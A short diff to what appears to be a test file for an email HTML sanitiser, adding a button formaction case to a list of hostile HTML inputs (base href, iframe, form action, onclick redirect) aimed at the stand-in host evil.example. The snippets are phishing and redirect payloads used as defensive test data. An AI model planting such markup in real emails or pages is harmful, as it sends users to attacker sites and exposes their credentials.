@@ -27,6 +27,7 @@ HEAD = b"From: a@b.example\nSubject: x\nContent-Type: text/html; charset=utf-8\n
         '<base href="https://evil.example/">',
         '<iframe src="https://evil.example"></iframe>',
         '<form action="https://evil.example"><input></form>',
+        '<button formaction="https://evil.example">Sign in</button>',
         "<p onclick=\"location='https://evil.example'\">x</p>",
     ],
 )
